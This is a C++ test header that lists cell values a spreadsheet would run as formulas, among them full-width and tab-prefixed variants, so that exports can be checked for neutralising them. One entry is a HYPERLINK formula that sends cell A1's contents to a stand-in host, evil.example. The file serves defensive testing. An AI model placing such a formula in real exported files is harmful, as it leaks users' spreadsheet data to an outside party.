// Cell text that a spreadsheet would run as a formula, in every form Excel
// runs it (ASCII and full-width signs, leading tab and carriage return): what
// each export that writes cells must neutralise.
#pragma once

#include <string>
#include <vector>

namespace yst::test {

inline const std::vector<std::string> kSpreadsheetFormulas = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "+1+1",
    "@SUM(1)",
    "\xEF\xBC\x8D"
    "1",  // －1
    "\t=1",
    "\r=1",
    "-1",
    "\xEF\xBC\x9D"
    "1",  // ＝1
    "\xEF\xBC\x8B"
    "1",  // ＋1
    "\xEF\xBC\xA0"
    "SUM(1)",  // ＠SUM(1)
};

}  // namespace yst::test
